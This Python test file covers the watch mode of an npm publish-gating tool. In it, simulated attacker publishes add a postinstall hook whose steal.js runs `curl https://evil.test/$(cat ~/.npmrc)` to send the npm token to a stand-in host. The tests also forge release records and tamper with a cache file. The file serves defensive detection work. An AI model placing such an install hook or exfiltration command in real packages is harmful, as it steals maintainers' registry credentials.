"""`mode: watch` end to end: the gate publishes (its Release holds the record), an attacker publishes
straight with `npm publish`, and watch — run as the action runs — flags exactly that version, opens one
issue with its delta, and no duplicate on the next run. Verdaccio, the real npm CLI, the GitHub stand-in.
"""

from __future__ import annotations

import json
from pathlib import Path

from gatekeeper.steps.record import Record
from tests._support.workspace import ActionResult, assert_no_leak, run_action
from tests.test_e2e_publish import FAST_RETRIES, REPO, Release, release  # noqa: F401 - the fixture

WRONG = "sha512-" + "Q" * 86 + "=="


def _watch(rel: Release, *, policy: str | None = None, registry: str | None = None) -> ActionResult:
    if policy is not None:
        (rel.ws / ".github/npm-gatekeeper.yml").write_text(policy)
    env = {
        **rel.github.env(),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_SHA": rel.sha,
        "GITHUB_EVENT_NAME": "schedule",
        **FAST_RETRIES,
    }
    inputs = {"mode": "watch", "github-token": rel.github.token or "", "registry": registry or rel.verdaccio.url}
    result = run_action(rel.ws, env, {"schedule": "17 * * * *"}, home=rel.home, inputs=inputs, timeout=120)
    assert_no_leak(result, rel.github.token or "x" * 8)
    return result


def _set_version(ws: Path, version: str, **manifest: object) -> None:
    pkg = json.loads((ws / "package.json").read_text())
    pkg["version"] = version
    pkg.update(manifest)
    (ws / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")


def _attacker_publishes(rel: Release, version: str) -> None:
    """The attacker's path: the stolen token, `npm publish` from their own machine, a postinstall hook."""
    _set_version(rel.ws, version, scripts={"postinstall": "node steal.js"})
    (rel.ws / "steal.js").write_text("require('child_process').exec('curl https://evil.test/$(cat ~/.npmrc)')\n")
    rel.verdaccio.publish(rel.ws, rel.token)


def test_a_version_published_straight_with_npm_is_flagged_once_with_its_delta(release) -> None:  # noqa: F811
    rel = release()
    rel.verdaccio.set_maintainers(rel.name, [rel.user])
    try:
        policy = 'notify:\n  mention: ["@acme/release-owners"]\n'
        (rel.ws / ".github/npm-gatekeeper.yml").write_text(policy)
        gated = rel.run()
        assert gated.returncode == 0 and gated.outputs["notified"] == "true", gated.describe()
        # nothing unexpected yet
        clean = _watch(rel)
        assert clean.returncode == 0, clean.describe()
        assert clean.outputs["unexpected"] == "" and not rel.repo.issues
        assert "only as strong as push access" in clean.summary  # a token publisher's records, said plainly
        # the attacker: 1.0.1 straight to the registry, a new maintainer, and no provenance where 1.0.0 had it
        _attacker_publishes(rel, "1.0.1")
        rel.verdaccio.set_maintainers(rel.name, [rel.user, "mallory"])
        rel.verdaccio.patch_packument(
            rel.name,
            lambda d: d["versions"]["1.0.0"]["dist"].update(
                attestations={"url": "https://registry.test/attestations", "provenance": {"predicateType": "x"}}
            ),
        )
        # someone plants an issue carrying our marker: it must not silence ours
        rel.repo.add_issue("harmless", f"<!-- npm-gatekeeper:unexpected {rel.name}@1.0.1 -->", user="mallory")
        first = _watch(rel)
        assert first.returncode == 1, first.describe()
        # 1.0.1, and 1.0.0, which now names attestations the registry does not serve: its record is not bound to
        # verified provenance, so it counts for nothing (issue 23, item 3)
        assert first.outputs["unexpected"] == f"{rel.name}@1.0.0 {rel.name}@1.0.1"
        ours = [i for i in rel.repo.issues if i.user.login == "github-actions[bot]"]
        assert len(ours) == 2, [i.title for i in rel.repo.issues]
        [issue] = [i for i in ours if f"{rel.name}@1.0.1" in i.title]
        body = issue.body or ""
        assert "`record-not-bound`" in next(i.body or "" for i in ours if f"{rel.name}@1.0.0" in i.title)
        assert "postinstall" in body and "steal.js" in body  # the delta against 1.0.0
        assert (
            "`unexpected-release`" in body and "`release-without-provenance`" in body and "`maintainer-added`" in body
        )
        assert "cc @acme/release-owners" in body
        rules = {f["rule"] for f in first.report["findings"]}
        assert {"unexpected-release", "release-without-provenance", "maintainer-added"} <= rules
        assert "latest-unrecorded" in rules  # npm publish moved `latest` to 1.0.1
        assert "(opened)" in first.summary
        # the next run: still failing, still exactly one issue of ours
        second = _watch(rel)
        assert second.returncode == 1, second.describe()
        assert len([i for i in rel.repo.issues if i.user.login == "github-actions[bot]"]) == 2
        assert "already open" in second.summary
        assert not rel.github.requests_to("GET", r"/search/")  # dedup by listing, never the search API
        assert all(r.query.get("state") == "all" for r in rel.github.requests_to("GET", r"/issues$"))
        # one packument request per package per run
        packument_gets = [r for r in rel.verdaccio.requests if r.method == "GET" and r.path.endswith(rel.name)]
        assert packument_gets
    finally:
        rel.verdaccio.clear_patches(rel.name)


def test_a_record_whose_integrity_differs_from_the_registry_is_flagged(release) -> None:  # noqa: F811
    rel = release()
    rel.verdaccio.publish(rel.ws, rel.token)
    record = Record(rel.name, "1.0.0", WRONG, rel.sha, "https://github.test/run/1")
    rel.repo.add_release("v1.0.0", f"notes\n\n{record.line()}\n", target_commitish=rel.sha)
    result = _watch(rel)
    assert result.returncode == 1, result.describe()
    assert result.outputs["unexpected"] == f"{rel.name}@1.0.0"
    f = next(f for f in result.report["findings"] if f["rule"] == "record-integrity-mismatch")
    assert WRONG in f["message"]
    assert len(rel.repo.issues) == 1


def test_latest_moved_to_a_version_the_gate_did_not_publish(release) -> None:  # noqa: F811
    rel = release()
    _set_version(rel.ws, "0.9.0")
    rel.verdaccio.publish(rel.ws, rel.token)  # before the gate: outside the watch
    _set_version(rel.ws, "1.0.0")
    gated = rel.run()
    assert gated.returncode == 0, gated.describe()
    assert _watch(rel).returncode == 0
    rel.verdaccio.call(
        "PUT", f"/-/package/{rel.name}/dist-tags/latest", token=rel.token, body="0.9.0", expect=(200, 201)
    )
    result = _watch(rel)
    assert result.returncode == 1, result.describe()
    assert result.outputs["unexpected"] == ""  # 0.9.0 predates the watch: no issue, but latest is flagged
    f = next(f for f in result.report["findings"] if f["rule"] == "latest-unrecorded")
    assert "0.9.0" in f["message"]
    assert not rel.repo.issues


def test_a_record_in_a_release_by_someone_else_is_not_trusted(release) -> None:  # noqa: F811
    rel = release()
    rel.verdaccio.publish(rel.ws, rel.token)
    integrity = rel.verdaccio.packument(rel.name)["versions"]["1.0.0"]["dist"]["integrity"]  # type: ignore[index]
    record = Record(rel.name, "1.0.0", integrity, rel.sha, "")
    rel.repo.add_release("v1.0.0", record.line(), author="mallory")
    result = _watch(rel, policy="watch:\n  since: 1.0.0\n")
    assert result.returncode == 1, result.describe()
    assert result.outputs["unexpected"] == f"{rel.name}@1.0.0"
    assert "release-record-invalid" in {f["rule"] for f in result.report["findings"]}


def test_watch_without_a_github_token_fails_closed(release) -> None:  # noqa: F811
    rel = release()
    env = {**rel.github.env(), "GITHUB_REPOSITORY": REPO, "GITHUB_EVENT_NAME": "schedule"}
    result = run_action(rel.ws, env, {}, home=rel.home, inputs={"mode": "watch", "registry": rel.verdaccio.url})
    assert result.returncode == 2, result.describe()
    assert "issues: write" in result.stderr


def test_a_version_below_watch_since_published_after_the_watch_began_is_flagged(release) -> None:  # noqa: F811
    """`watch.since: 1.0.0` says where the watch begins, not which versions a stolen token may publish unseen: a
    0.9.9 published later under another dist-tag (so `latest` does not move) is still an unexpected release."""
    rel = release()
    policy = "watch:\n  since: 1.0.0\n"
    (rel.ws / ".github/npm-gatekeeper.yml").write_text(policy)
    gated = rel.run()
    assert gated.returncode == 0, gated.describe()
    assert _watch(rel, policy=policy).returncode == 0
    _set_version(rel.ws, "0.9.9", scripts={"postinstall": "node steal.js"})
    (rel.ws / "steal.js").write_text("require('child_process').exec('curl https://evil.test')\n")
    rel.verdaccio.publish(rel.ws, rel.token, tag="legacy")
    result = _watch(rel, policy=policy)
    assert result.returncode == 1, result.describe()
    assert result.outputs["unexpected"] == f"{rel.name}@0.9.9"


def test_a_gated_package_the_registry_says_does_not_exist_is_not_a_pass(release) -> None:  # noqa: F811
    """The gate published it (its record is there), yet the registry answers 404: unpublished with a stolen
    token, or a registry/network answering wrongly. Fail closed, never "skipped, all accounted for"."""
    from tests._support.faultproxy import FaultProxy, Reply

    rel = release()
    gated = rel.run()
    assert gated.returncode == 0, gated.describe()
    proxy = FaultProxy(rel.verdaccio.url).start()
    try:
        proxy.add(rf"^/{rel.name}$", Reply(404, {"error": "not found"}), method="GET")
        result = _watch(rel, registry=proxy.url)
    finally:
        proxy.stop()
    assert result.returncode == 2, result.describe()
    assert rel.name in (result.report or {}).get("error", ""), result.describe()


def test_a_version_ranking_below_the_one_before_is_a_trust_downgrade(release) -> None:  # noqa: F811
    """Issue 23, item 5: 1.0.0 by OIDC trusted publishing (`_npmUser.trustedPublisher`, patched in: Verdaccio
    records no `_npmUser`), then 1.0.1 with a token: watch reports the downgrade on that version."""
    rel = release()
    gated = rel.run()
    assert gated.returncode == 0, gated.describe()
    publisher = {"name": "GitHub Actions", "trustedPublisher": {"id": "github"}}
    rel.verdaccio.patch_packument(rel.name, lambda d: d["versions"]["1.0.0"].update(_npmUser=publisher))
    try:
        _attacker_publishes(rel, "1.0.1")
        result = _watch(rel)
    finally:
        rel.verdaccio.clear_patches(rel.name)
    assert result.returncode == 1, result.describe()
    [f] = [f for f in result.report["findings"] if f["rule"] == "trust-downgrade"]
    assert f"{rel.name}@1.0.1 was published with token only" in f["message"]


def test_a_workspace_policy_that_widens_watch_since_or_trusted_authors_changes_nothing(release) -> None:  # noqa: F811
    """Issue 23, item 6: watch obeys the policy of the last gated release's anchored commit (here the gate's own
    record names it: the gate published a tarball, so npm recorded no gitHead), never the workspace's."""
    rel = release()
    gated = rel.run()
    assert gated.returncode == 0, gated.describe()
    _attacker_publishes(rel, "1.0.1")
    widened = "watch:\n  since: '99.0.0'\n  trusted-authors: [mallory]\nrules:\n  latest-unrecorded: 'off'\n"
    result = _watch(rel, policy=widened)
    assert result.returncode == 1, result.describe()
    assert result.outputs["unexpected"] == f"{rel.name}@1.0.1"
    assert {"unexpected-release", "latest-unrecorded"} <= {f["rule"] for f in result.report["findings"]}
    assert "Policy: the gate's record of" in result.summary  # the gate's record names the released commit


def test_a_tampered_state_file_cannot_hide_a_version(release) -> None:  # noqa: F811
    """Issue 23, item 6: the registry answers with ETags and 304s as npmjs does (the fault proxy's `ETag`). A
    state file kept between runs (a restored cache any workflow of the branch can write) holding the registry's
    CURRENT ETag with a packument that lacks the attacker's version would have been taken on the 304: watch
    keeps no such state and reads the whole packument every run."""
    import hashlib

    from tests._support.faultproxy import ETag, FaultProxy

    rel = release()
    gated = rel.run()
    assert gated.returncode == 0, gated.describe()
    proxy = FaultProxy(rel.verdaccio.url).start()
    try:
        proxy.add(rf"^/{rel.name}$", ETag(), method="GET")
        assert _watch(rel, registry=proxy.url).returncode == 0
        _attacker_publishes(rel, "1.0.1")
        # the attacker writes the state: the packument as it is now, minus 1.0.1, under the ETag the registry serves
        import requests

        resp = requests.get(proxy.url + rel.name, headers={"Accept": "application/json"}, timeout=30)
        assert resp.status_code == 200 and resp.headers["ETag"] == '"' + hashlib.sha256(resp.content).hexdigest() + '"'
        hidden = resp.json()
        del hidden["versions"]["1.0.1"]
        hidden["time"].pop("1.0.1", None)
        hidden["dist-tags"]["latest"] = "1.0.0"
        state = rel.ws / "node_modules/.cache/npm-gatekeeper/watch-state.json"
        state.parent.mkdir(parents=True, exist_ok=True)
        entry = {"etag": resp.headers["ETag"], "doc": hidden}
        state.write_text(json.dumps({"packuments": {rel.name: entry}}))
        result = _watch(rel, registry=proxy.url)
        conditional = [s for s in proxy.seen(rf"^/{rel.name}$", "GET") if "if-none-match" in s.headers]
    finally:
        proxy.stop()
    assert result.returncode == 1, result.describe()
    assert result.outputs["unexpected"] == f"{rel.name}@1.0.1"
    assert conditional == []  # never asked "not modified?": nothing cached is trusted


def test_a_dependency_that_gains_a_postinstall_after_the_release_is_reported_once(release, tmp_path: Path) -> None:  # noqa: F811
    """Issue 23, item 7: the gate's record lists the consumer tree's packages with install scripts (none here);
    `dep@1.0.1` then ships a postinstall, and the released `^1.0.0` range takes it. Watch re-resolves the latest
    release's tree each run: ONE issue names dep@1.0.1, the next run finds it and opens no second one."""
    from gatekeeper.steps.record import parse_record

    probe = release()  # a registry user to publish the dependency with
    dep = probe.verdaccio.unique("gk-dep")

    def publish_dep(version: str, **manifest: object) -> None:
        d = tmp_path / f"{dep}-{version}"
        d.mkdir()
        (d / "package.json").write_text(json.dumps({"name": dep, "version": version, **manifest}))
        (d / "index.js").write_text("module.exports = 1\n")
        probe.verdaccio.publish(d, probe.token)

    publish_dep("1.0.0")
    rel = release(manifest={"dependencies": {dep: "^1.0.0"}})
    gated = rel.run()
    assert gated.returncode == 0, gated.describe()
    [written] = [r for r in rel.repo.releases if r.tag_name == "v1.0.0"]
    record, why = parse_record(written.body or "")
    assert record is not None and record.install_scripts == (), why  # resolved, and nothing runs install scripts
    clean = _watch(rel)
    assert clean.returncode == 0 and not rel.repo.issues, clean.describe()
    publish_dep("1.0.1", scripts={"postinstall": "node -e 1"})
    first = _watch(rel)
    assert first.returncode == 0, first.describe()  # a warning and an issue: the release itself is accounted for
    [f] = [f for f in first.report["findings"] if f["rule"] == "dependency-install-script-drift"]
    assert f"{dep}@1.0.1" in f["message"] and f"{rel.name}@1.0.0" in f["message"]
    [issue] = [i for i in rel.repo.issues if i.user.login == "github-actions[bot]"]
    assert f"{dep}@1.0.1" in issue.title and "(opened)" in first.summary
    second = _watch(rel)
    assert len([i for i in rel.repo.issues if i.user.login == "github-actions[bot]"]) == 1
    assert "already open" in second.summary, second.summary
